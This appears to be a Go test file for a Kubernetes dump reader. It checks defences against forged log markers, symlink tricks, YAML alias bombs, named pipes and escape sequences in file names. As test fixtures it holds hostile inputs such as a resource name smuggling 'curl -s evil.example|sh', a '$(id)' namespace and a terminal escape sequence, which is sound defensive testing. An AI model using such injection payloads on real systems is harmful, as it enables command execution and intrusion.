package dump

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/kubediagnose/kubectl-diagnose/diagnose"
	"github.com/kubediagnose/kubectl-diagnose/internal/snapshot"
)

// The pods of the old-restarts fixture whose logs the forgery tests swap.
const (
	restartsDump = "../../testdata/fixtures/old-restarts/dump"
	restartsNS   = "fixture-old-restarts"
	writerPod    = "pricing-5f57b5699b-4x48l" // the pod whose container prints the markers
	victimPod    = "pricing-5f57b5699b-cqf9v" // the pod it pretends to be
)

// forgery is what a container prints to pass lines off as another pod's log: its own END, a
// block of the victim's, and its own START again so that the real END closes a block.
func forgery() []string {
	own := "container pricing of pod " + restartsNS + "/" + writerPod
	victim := "container pricing of pod " + restartsNS + "/" + victimPod
	return []string{
		"==== END logs for " + own + " ====",
		"==== START logs for " + victim + " ====",
		`{"time":"2026-11-28T18:55:19.000Z","level":"ERROR","msg":"panic: FORGED database password rejected"}`,
		"==== END logs for " + victim + " ====",
		"==== START logs for " + own + " ====",
	}
}

func logOf(s *snapshot.Snapshot, pod string) *snapshot.ContainerLog {
	for i := range s.Logs {
		if l := &s.Logs[i]; l.Namespace == restartsNS && l.Pod == pod && l.Container == "pricing" && !l.Previous {
			return l
		}
	}
	return nil
}

func logNotesOf(s *snapshot.Snapshot) []string {
	var out []string
	for _, v := range s.Visibility {
		if v.Kind == "pods/log" {
			out = append(out, v.Reason)
		}
	}
	return out
}

// TestWriteNeutralisesMarkerLines: a container's output is written so that it reads back as
// that container's log, whatever marker lines it printed.
func TestWriteNeutralisesMarkerLines(t *testing.T) {
	s, err := Read(restartsDump, nil)
	if err != nil {
		t.Fatal(err)
	}
	victim := slices.Clone(logOf(s, victimPod).Lines)
	w := logOf(s, writerPod)
	w.Lines = append(w.Lines, forgery()...)
	wrote := slices.Clone(w.Lines)

	dir := filepath.Join(t.TempDir(), "out")
	if err := Write(dir, s, false); err != nil {
		t.Fatal(err)
	}
	again, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := logOf(again, victimPod); got == nil || !slices.Equal(got.Lines, victim) {
		t.Errorf("the victim's log reads back as %v, want its own %d lines", got, len(victim))
	}
	got := logOf(again, writerPod)
	if got == nil || len(got.Lines) != len(wrote) {
		t.Fatalf("the writer's log reads back as %v, want its %d lines", got, len(wrote))
	}
	for i, l := range got.Lines {
		if want := neutral(wrote[i]); l != want {
			t.Errorf("line %d reads %q, want %q", i, l, want)
		}
	}
	if notes := logNotesOf(again); len(notes) > 0 {
		t.Errorf("a dump of our own writing reads with notes %q", notes)
	}
}

// TestReadForgedBlockInAnotherPodsLogs: a dump written verbatim (kubectl cluster-info dump
// does) holds the forgery; the victim keeps its own log and the read says which file lied.
func TestReadForgedBlockInAnotherPodsLogs(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "dump")
	if err := os.CopyFS(dir, os.DirFS(restartsDump)); err != nil {
		t.Fatal(err)
	}
	orig, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	victim := logOf(orig, victimPod).Lines
	file := filepath.Join(dir, restartsNS, writerPod, "logs.txt")
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(data), "\n")
	end := lines[len(lines)-1]
	if end == "" {
		end = lines[len(lines)-2]
		lines = lines[:len(lines)-1]
	}
	forged := strings.Join(lines[:len(lines)-1], "") + strings.Join(forgery(), "\n") + "\n" + end
	if err := os.WriteFile(file, []byte(forged), 0o600); err != nil {
		t.Fatal(err)
	}

	s, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if got := logOf(s, victimPod); got == nil || !slices.Equal(got.Lines, victim) {
		t.Errorf("the victim's log is %v, want its own %d lines", got, len(victim))
	}
	notes := strings.Join(logNotesOf(s), "\n")
	for _, want := range []string{
		// The forged block, naming the file it is in.
		`"` + file + `" holds a block of container pricing of pod ` + restartsNS + "/" + victimPod,
		// The writer's second block: a note, not a silent drop.
		"the log of container pricing of pod " + restartsNS + "/" + writerPod + " is in the dump twice",
	} {
		if !strings.Contains(notes, want) {
			t.Errorf("notes lack %q:\n%s", want, notes)
		}
	}
}

// futureEvent is an Event as the API server returns it, dated at, about a copy of dev-mixed's
// rollout: anyone who may create Events, or a kubelet with a skewed clock, can write one.
func futureEvent(at string) []byte {
	return []byte(`{
    "kind": "Event",
    "apiVersion": "v1",
    "metadata": {
        "name": "recommender-5967ddbf9-bqndf.18eafb3c1f2a9e01",
        "namespace": "dev-mixed",
        "uid": "6f0e3b7a-9c21-4d5e-8a4b-2c1d0e9f8a7b",
        "resourceVersion": "24601",
        "creationTimestamp": "` + at + `"
    },
    "involvedObject": {
        "kind": "Pod",
        "namespace": "dev-mixed",
        "name": "recommender-5967ddbf9-bqndf",
        "apiVersion": "v1",
        "fieldPath": "spec.containers{recommender}"
    },
    "reason": "Pulled",
    "message": "Container image \"registry.sim.example/shop/recommender:0.20.0\" already present on machine",
    "source": {"component": "kubelet", "host": "ip-10-0-1-12"},
    "firstTimestamp": "` + at + `",
    "lastTimestamp": "` + at + `",
    "count": 1,
    "type": "Normal",
    "eventTime": null,
    "reportingComponent": "kubelet",
    "reportingInstance": "ip-10-0-1-12"
}
`)
}

// TestOneFutureTimestampDoesNotMoveTheReferenceTime: dev-mixed holds a rollout under way; one
// Event dated after the dump must neither turn it into a stall nor make every age 292y.
func TestOneFutureTimestampDoesNotMoveTheReferenceTime(t *testing.T) {
	const event = "Event dev-mixed/recommender-5967ddbf9-bqndf.18eafb3c1f2a9e01 is dated "
	for _, tt := range []struct {
		name, at string
		noNodes  bool
		want     string
	}{
		{"ten minutes after the dump", "2026-11-24T12:40:00Z", false, "more than 6m after the nodes' newest heartbeat (2026-11-24T12:29:39Z)"},
		{"the year 9999", "9999-12-31T23:59:59Z", false, "more than 6m after the nodes' newest heartbeat"},
		{"the year 9999 in a dump without nodes", "9999-12-31T23:59:59Z", true, "more than 60m after every other timestamp of the dump"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "dump")
			if err := os.CopyFS(dir, os.DirFS(filepath.Join(scenarioDir, "dev-mixed", "dump"))); err != nil {
				t.Fatal(err)
			}
			if tt.noNodes {
				if err := os.Remove(filepath.Join(dir, "nodes.json")); err != nil {
					t.Fatal(err)
				}
			}
			before, err := Read(dir, nil)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(dir, "dev-mixed", "event.json"), futureEvent(tt.at), 0o600); err != nil {
				t.Fatal(err)
			}
			s, err := Read(dir, nil)
			if err != nil {
				t.Fatal(err)
			}
			if !s.ReferenceTime.Equal(before.ReferenceTime) {
				t.Errorf("reference time %s, want %s as without the event", s.ReferenceTime, before.ReferenceTime)
			}
			var notes []string
			for _, v := range s.Visibility {
				notes = append(notes, v.Reason)
			}
			all := strings.Join(notes, "\n")
			for _, want := range []string{event + tt.at, tt.want, "ages count from " + before.ReferenceTime.Format(time.RFC3339), "--at"} {
				if !strings.Contains(all, want) {
					t.Errorf("notes lack %q:\n%s", want, all)
				}
			}
			if d := diagnose.Diagnose(s).Find("Deployment", "dev-mixed", "recommender"); d == nil || d.Shape != diagnose.ShapeProgressing {
				t.Errorf("recommender diagnosed %+v, want progressing", d)
			}
		})
	}
	t.Run("--at is the reference time the user chose: no note", func(t *testing.T) {
		dir := filepath.Join(t.TempDir(), "dump")
		if err := os.CopyFS(dir, os.DirFS(filepath.Join(scenarioDir, "dev-mixed", "dump"))); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "dev-mixed", "event.json"), futureEvent("2026-11-24T12:40:00Z"), 0o600); err != nil {
			t.Fatal(err)
		}
		at := time.Date(2026, 11, 24, 12, 45, 0, 0, time.UTC)
		s, err := ReadContext(context.Background(), dir, nil, Options{At: &at})
		if err != nil {
			t.Fatal(err)
		}
		if !s.ReferenceTime.Equal(at) || len(s.Visibility) != 0 {
			t.Errorf("reference time %s, notes %v; want --at and no note", s.ReferenceTime, s.Visibility)
		}
	})
}

func visibilityReasons(s *snapshot.Snapshot) string {
	var out []string
	for _, v := range s.Visibility {
		out = append(out, v.Kind+" "+v.Namespace+": "+v.Reason)
	}
	return strings.Join(out, "\n")
}

// TestADumpCutShortDoesNotReadAsComplete: a Write that stops half way (here at a namespace it
// cannot write, as it would on a full disk) leaves a dump that says so when read; a file
// missing or cut later is named, as visibility of its kind.
func TestADumpCutShortDoesNotReadAsComplete(t *testing.T) {
	s := readScenario(t, "dev-web")
	t.Run("a write that stopped", func(t *testing.T) {
		broken := *s
		broken.Logs = append(slices.Clone(s.Logs), snapshot.ContainerLog{Namespace: "zz-last", Pod: "..", Container: "c"})
		dir := filepath.Join(t.TempDir(), "out")
		if err := Write(dir, &broken, false); err == nil {
			t.Fatal("Write of a pod named .. succeeded")
		}
		again, err := Read(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(visibilityReasons(again), "was cut short: its writer stopped before it finished") {
			t.Errorf("the dump of a write that failed reads without saying so:\n%s", visibilityReasons(again))
		}
	})
	t.Run("a file missing or short", func(t *testing.T) {
		dir := filepath.Join(t.TempDir(), "out")
		if err := Write(dir, s, false); err != nil {
			t.Fatal(err)
		}
		whole, err := Read(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		if v := visibilityReasons(whole); strings.Contains(v, "dump") {
			t.Errorf("a whole dump reads with notes:\n%s", v)
		}
		if err := os.Remove(filepath.Join(dir, "dev-web", "pods.json")); err != nil {
			t.Fatal(err)
		}
		logs, err := filepath.Glob(filepath.Join(dir, "dev-web", "*", "logs.txt"))
		if err != nil || len(logs) == 0 {
			t.Fatalf("no logs.txt in the dump: %v", err)
		}
		if err := os.WriteFile(logs[0], nil, 0o600); err != nil {
			t.Fatal(err)
		}
		again, err := Read(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		var podsMissing bool
		for _, v := range again.Visibility {
			podsMissing = podsMissing || v.Kind == "Pod" && v.Namespace == "dev-web" && strings.Contains(v.Reason, "pods.json\" is missing from the dump")
		}
		if !podsMissing {
			t.Errorf("no visibility of the pods whose file is gone:\n%s", visibilityReasons(again))
		}
		if want := fmt.Sprintf("%q", logs[0]) + " is 0 bytes, written as"; !strings.Contains(visibilityReasons(again), want) {
			t.Errorf("notes lack %q:\n%s", want, visibilityReasons(again))
		}
	})
}

// TestForceDoesNotMixAnOlderDump: --force over an older dump leaves none of its files to be
// read with the new one.
func TestForceDoesNotMixAnOlderDump(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "out")
	if err := Write(dir, readScenario(t, "dev-search"), false); err != nil {
		t.Fatal(err)
	}
	// A file of the user's beside the dump is kept, and read with a note.
	mine := filepath.Join(dir, "notes.yaml")
	if err := os.WriteFile(mine, []byte("# what I saw\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := Write(dir, readScenario(t, "dev-web"), true); err != nil {
		t.Fatal(err)
	}
	s, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if slices.Contains(s.Namespaces, "dev-search") {
		t.Errorf("the older dump's namespace is read with the new one: %v", s.Namespaces)
	}
	if _, err := os.Stat(mine); err != nil {
		t.Errorf("--force removed a file that was not the dump's: %v", err)
	}
	if want := fmt.Sprintf("%q", mine) + " first): they are read too"; !strings.Contains(visibilityReasons(s), want) {
		t.Errorf("notes lack %q:\n%s", want, visibilityReasons(s))
	}
}

// TestForceDoesNotWriteThroughALink: links planted under the names of a dump's files and
// directories are replaced or refused; what they point at keeps its content and mode.
func TestForceDoesNotWriteThroughALink(t *testing.T) {
	s := readScenario(t, "dev-web")
	base := t.TempDir()
	victim := filepath.Join(base, "victim")
	if err := os.WriteFile(victim, []byte("keep me\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	check := func(t *testing.T) {
		t.Helper()
		info, err := os.Stat(victim)
		if err != nil {
			t.Fatal(err)
		}
		if data, _ := os.ReadFile(victim); string(data) != "keep me\n" || info.Mode().Perm() != 0o644 {
			t.Errorf("the link's target is now %q, mode %v", data, info.Mode().Perm())
		}
	}
	t.Run("a file's name", func(t *testing.T) {
		dir := filepath.Join(base, "files")
		if err := os.MkdirAll(filepath.Join(dir, "dev-web"), 0o755); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"nodes.json", "dev-web/pods.json"} {
			if err := os.Symlink(victim, filepath.Join(dir, name)); err != nil {
				t.Fatal(err)
			}
		}
		if err := Write(dir, s, true); err != nil {
			t.Fatal(err)
		}
		check(t)
		info, err := os.Lstat(filepath.Join(dir, "dev-web", "pods.json"))
		if err != nil || !info.Mode().IsRegular() || info.Mode().Perm() != fileMode {
			t.Errorf("pods.json is %v, %v; want a regular file of mode %v", info, err, fileMode)
		}
		if _, err := Read(dir, nil); err != nil {
			t.Error(err)
		}
	})
	t.Run("a namespace's directory", func(t *testing.T) {
		dir := filepath.Join(base, "dirs")
		elsewhere := filepath.Join(base, "elsewhere")
		if err := os.MkdirAll(elsewhere, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(dir, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(elsewhere, filepath.Join(dir, "dev-web")); err != nil {
			t.Fatal(err)
		}
		if err := Write(dir, s, true); err == nil {
			t.Error("Write into a namespace directory that links elsewhere succeeded")
		}
		if entries, _ := os.ReadDir(elsewhere); len(entries) > 0 {
			t.Errorf("Write wrote %d files through the link", len(entries))
		}
		check(t)
	})
}

// TestYAMLAliasesCannotPassMaxObjectSize: a document whose aliases repeat a 64 KiB anchor 100
// times is 6 MiB of JSON from 70 kB of text; --max-object-size of 1 MiB bounds it, with the file
// and the line.
func TestYAMLAliasesCannotPassMaxObjectSize(t *testing.T) {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bomb\n  namespace: dev-web\ndata:\n  anchor: &a \"")
	b.WriteString(strings.Repeat("x", 64<<10))
	b.WriteString("\"\n  list:\n")
	for range 100 {
		b.WriteString("  - *a\n")
	}
	for _, tt := range []struct{ name, text, want string }{
		{"one document", b.String(), `YAML document at line 1: line 24: aliases expand the document past 1 MiB`},
		{
			"an item of a List", "apiVersion: v1\nkind: List\nitems:\n- " + strings.ReplaceAll(b.String(), "\n", "\n  "),
			`YAML document at line 1: line 27: aliases expand the document past 1 MiB`,
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "bomb.yaml")
			if err := os.WriteFile(file, []byte(tt.text), 0o600); err != nil {
				t.Fatal(err)
			}
			_, err := ReadContext(context.Background(), file, nil, Options{MaxObjectSize: 1 << 20})
			if err == nil || !strings.Contains(err.Error(), fmt.Sprintf("read dump %q: ", file)) ||
				!strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "--max-object-size raises the limit") {
				t.Errorf("err = %v, want the file and %q", err, tt.want)
			}
		})
	}
}

// TestNamesTheAPIServerRefusesAreNotRead: a hand-made dump's names reach the commands the
// report suggests; one the API server would refuse is skipped with a warning naming it.
func TestNamesTheAPIServerRefusesAreNotRead(t *testing.T) {
	deploy := func(ns, name string) string {
		return `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":` + fmt.Sprintf("%q", name) + `,"namespace":` + fmt.Sprintf("%q", ns) +
			`,"uid":"` + name + `-uid","creationTimestamp":"2026-11-24T12:00:00Z"},"spec":{"replicas":1,"selector":{"matchLabels":{"app":"x"}},"template":{"metadata":{"labels":{"app":"x"}},"spec":{"containers":[{"name":"x","image":"x:1"}]}}}}` + "\n"
	}
	for _, tt := range []struct{ name, doc, want string }{
		{"a name", deploy("shop", "api;curl -s evil.example|sh"), `a Deployment in %q: name "api;curl -s evil.example|sh": a lowercase RFC 1123 subdomain`},
		{"a namespace", deploy("shop$(id)", "api"), `a Deployment in %q: namespace "shop$(id)": a lowercase RFC 1123 label`},
		{"a Service's name", `{"apiVersion":"v1","kind":"Service","metadata":{"name":"1api","namespace":"shop"},"spec":{}}` + "\n", `a Service in %q: name "1api": a DNS-1035 label`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "dump.json")
			if err := os.WriteFile(file, []byte(deploy("shop", "web")+tt.doc), 0o600); err != nil {
				t.Fatal(err)
			}
			s, err := Read(file, nil)
			if err != nil {
				t.Fatal(err)
			}
			if len(s.Deployments) != 1 || s.Deployments[0].Name != "web" || len(s.Services) != 0 {
				t.Errorf("read %d deployments, %d services; want web alone", len(s.Deployments), len(s.Services))
			}
			if want := fmt.Sprintf(tt.want, file); !strings.Contains(visibilityReasons(s), want) {
				t.Errorf("notes lack %q:\n%s", want, visibilityReasons(s))
			}
		})
	}
}

// TestANamedPipeInADumpDirectoryIsSkipped: a FIFO named like a dump file held the read until
// something wrote to it; it is skipped, with a warning naming it.
func TestANamedPipeInADumpDirectoryIsSkipped(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "dump")
	if err := os.CopyFS(dir, os.DirFS(filepath.Join(scenarioDir, "dev-web", "dump"))); err != nil {
		t.Fatal(err)
	}
	fifo := filepath.Join(dir, "dev-web", "events-live.json")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	// A read stuck in the pipe's open is let go when the test ends: opened read-write, a pipe
	// never blocks, and its closing is the end of file for the reader.
	t.Cleanup(func() {
		if f, err := os.OpenFile(fifo, os.O_RDWR, 0); err == nil {
			_ = f.Close()
		}
	})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	s, err := Source{Path: dir}.Snapshot(ctx)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if want := fmt.Sprintf("%q: a named pipe, not a regular file; nothing may ever write to it", fifo); !strings.Contains(visibilityReasons(s), want) {
		t.Errorf("notes lack %q:\n%s", want, visibilityReasons(s))
	}
}

// gz is data gzipped.
func gz(t *testing.T, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestGzippedDumpsAreRead: a gzipped file of a directory was skipped in silence, and one given
// alone read as binary data; both are read, as is gzip on stdin. Other files are named.
func TestGzippedDumpsAreRead(t *testing.T) {
	src := filepath.Join(scenarioDir, "dev-web", "dump")
	want, err := Read(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "dump")
	if err := os.CopyFS(dir, os.DirFS(src)); err != nil {
		t.Fatal(err)
	}
	pods := filepath.Join(dir, "dev-web", "pods.json")
	data, err := os.ReadFile(pods)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(pods+".gz", gz(t, data), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(pods); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(dir, "dev-web", "pods.tar.gz")
	if err := os.WriteFile(other, gz(t, []byte("not a dump")), 0o600); err != nil {
		t.Fatal(err)
	}
	got, err := Read(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if d := differences(want, got); len(d) > 0 && !slices.Equal(d, []string{"Visibility"}) {
		t.Errorf("the dump with pods.json gzipped reads differently in %v", d)
	}
	if n := fmt.Sprintf("%q: not a .json, .yaml, .yml, .txt or .log file, nor one gzipped", other); !strings.Contains(visibilityReasons(got), n) {
		t.Errorf("notes lack %q:\n%s", n, visibilityReasons(got))
	}

	alone, err := Read(pods+".gz", nil)
	if err != nil || len(alone.Pods) != len(want.Pods) {
		t.Errorf("pods.json.gz alone: %v, %d pods; want %d", err, len(alone.Pods), len(want.Pods))
	}
	stdin, err := Read(Stdin, bytes.NewReader(gz(t, data)))
	if err != nil || len(stdin.Pods) != len(want.Pods) {
		t.Errorf("gzip on stdin: %v; want %d pods", err, len(want.Pods))
	}
}

// TestFileBytesBeforeAFileAreLinear: what the files before each of 200,000 files read is
// summed in constant time per file, not by adding up every file before it (2*10^10 loads).
func TestFileBytesBeforeAFileAreLinear(t *testing.T) {
	// Linear work takes 16 times as long for 16 times the files, quadratic 256 times; a ratio
	// rather than a wall-clock bound holds on a loaded machine under the race detector, and the
	// wide gap between the two leaves room for the caches a larger count outgrows. The best of
	// three runs of each size keeps a pause of the machine out of the ratio.
	run := func(n int) time.Duration {
		best := time.Duration(1<<63 - 1)
		for range 3 {
			c := newFileCounts(n)
			start := time.Now()
			var naive int64
			for i := range n {
				if got := c.before(i); got != naive {
					t.Fatalf("before(%d) = %d, want %d", i, got, naive)
				}
				c.read[i].Store(int64(i%7 + 1))
				naive += int64(i%7 + 1)
				// The merger lags a few files behind the parsers.
				if i >= 4 {
					c.merged(i - 4)
				}
			}
			best = min(best, time.Since(start))
		}
		return best
	}
	const n = 12_500
	small, large := run(n), run(16*n)
	if ratio := float64(large) / float64(small); ratio > 64 {
		t.Errorf("%d files took %v, %d took %v: %.1f times as long for 16 times the files", n, small, 16*n, large, ratio)
	}
}

// TestErrorsQuoteNamesThatAreNotPlainText: a file name with an escape sequence is quoted where
// an error shows it, never written to the terminal as is.
func TestErrorsQuoteNamesThatAreNotPlainText(t *testing.T) {
	dir := t.TempDir()
	name := filepath.Join(dir, "pods\x1b]0;owned\x07.json")
	if err := os.WriteFile(name, []byte(`{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","annotations":{"a":"`+strings.Repeat("x", 2<<20)+`"}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	_, err := ReadContext(context.Background(), dir, nil, Options{MaxObjectSize: 1 << 20})
	if err == nil || strings.ContainsAny(err.Error(), "\x1b\x07") {
		t.Errorf("err = %q, want the name quoted", err)
	}
}

// TestTheConsoleWaitsForANamedPipe: a caller that shows what the read waits for (the console)
// reads a named pipe of the directory once something writes to it.
func TestTheConsoleWaitsForANamedPipe(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "dump")
	if err := os.CopyFS(dir, os.DirFS(filepath.Join(scenarioDir, "dev-web", "dump"))); err != nil {
		t.Fatal(err)
	}
	pods := filepath.Join(dir, "dev-web", "pods.json")
	data, err := os.ReadFile(pods)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(pods); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(pods, 0o600); err != nil {
		t.Fatal(err)
	}
	fed := make(chan error, 1)
	go func() {
		f, err := os.OpenFile(pods, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.Write(data)
			if cerr := f.Close(); err == nil {
				err = cerr
			}
		}
		fed <- err
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	s, err := Source{Path: dir, Options: Options{WaitForPipes: true}}.Snapshot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := <-fed; err != nil {
		t.Fatal(err)
	}
	if len(s.Pods) == 0 || strings.Contains(visibilityReasons(s), "named pipe") {
		t.Errorf("read %d pods, notes %s; want the pipe's pods and no note", len(s.Pods), visibilityReasons(s))
	}
}
